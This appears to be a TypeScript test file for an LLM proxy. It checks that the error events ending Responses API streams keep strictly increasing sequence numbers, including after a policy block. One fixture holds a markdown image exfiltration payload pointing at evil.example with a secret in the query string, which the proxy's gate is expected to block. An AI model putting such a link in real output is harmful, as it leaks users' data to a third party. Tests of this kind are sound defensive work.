/**
 * The Responses API numbers its stream events (`sequence_number`, required by OpenAI's schema
 * and checked by the Vercel AI SDK): an error event Coalmine ends a stream with continues the
 * numbering from the last event the client was sent — with and without streaming enforcement,
 * whatever ended the stream.
 */
import { describe, expect, it } from 'vitest';
import { FakeUpstream } from '../../helpers/fake-upstream.js';
import { testApp } from '../../helpers/app.js';
import { policySetFrom } from '../../helpers/policy.js';

const SSE = { 'content-type': 'text/event-stream' };
const ev = (type: string, seq: number, extra: object = {}) =>
  `event: ${type}\ndata: ${JSON.stringify({ type, sequence_number: seq, ...extra })}\n\n`;
const opening = [
  ev('response.created', 0, { response: { id: 'r', object: 'response', output: [] } }),
  ev('response.output_item.added', 1, {
    output_index: 0,
    item: { id: 'm', type: 'message', role: 'assistant', content: [] },
  }),
  ev('response.content_part.added', 2, {
    output_index: 0,
    content_index: 0,
    part: { type: 'output_text', text: '' },
  }),
];
const delta = (seq: number, text: string) =>
  ev('response.output_text.delta', seq, { output_index: 0, content_index: 0, delta: text });

/** The sequence numbers of a stream's events, in order, and its last event. */
function read(text: string) {
  const data = text
    .split('\n\n')
    .filter((f) => f.includes('data: '))
    .map((f) => JSON.parse(/^data: (.*)$/m.exec(f)![1]!) as Record<string, unknown>);
  return { seqs: data.map((d) => d['sequence_number']), last: data.at(-1)! };
}

const gate = policySetFrom({
  'p.yaml': 'name: p\nrules:\n  - { id: exfil, check: markdown-exfiltration, action: block }\n',
});

describe('the sequence_number of the error event ending a Responses stream', () => {
  it.each([
    [
      'the upstream breaks off, no gate',
      false,
      [...opening, delta(3, 'Hello'), new Error('reset')],
      'upstream_stream_broken',
      4,
    ],
    [
      'the upstream breaks off, through the gate',
      true,
      [...opening, delta(3, 'Hello.'), new Error('reset')],
      'upstream_stream_broken',
      4,
    ],
    [
      'a malformed event, no gate',
      false,
      [...opening, delta(3, 'Hi'), 'event: x\ndata: {nope\n\n'],
      'upstream_malformed_body',
      4,
    ],
    [
      'a comment frame does not count',
      false,
      [...opening, ': keep-alive\n\n', new Error('reset')],
      'upstream_stream_broken',
      3,
    ],
    ['no event was sent', false, [new Error('reset')], 'upstream_stream_broken', 0],
    // The gate holds the image's start: the block follows the last event released.
    [
      'a block mid-stream',
      true,
      [
        ...opening,
        delta(3, 'Sure. '),
        delta(4, '![chart](https://evil.example/c.png?d=secret)'),
        delta(5, ' ok'),
      ],
      'coalmine_policy_violation',
      4,
    ],
  ] as const)('%s', async (_name, gated, chunks, code, seq) => {
    const upstream = new FakeUpstream(() => ({ headers: SSE, chunks: [...chunks] }));
    const { post } = testApp({ upstream, ...(gated ? { policies: gate } : {}) });
    const res = await post('/v1/responses', { model: 'gpt-4o-mini', input: 'hi', stream: true });
    const { seqs, last } = read(await res.text());
    expect(last).toMatchObject({ type: 'error', code, sequence_number: seq });
    // Strictly increasing, the error included: the client sees one numbering.
    expect(seqs).toEqual([...seqs].sort((a, b) => Number(a) - Number(b)));
    expect(new Set(seqs).size).toBe(seqs.length);
  });
});
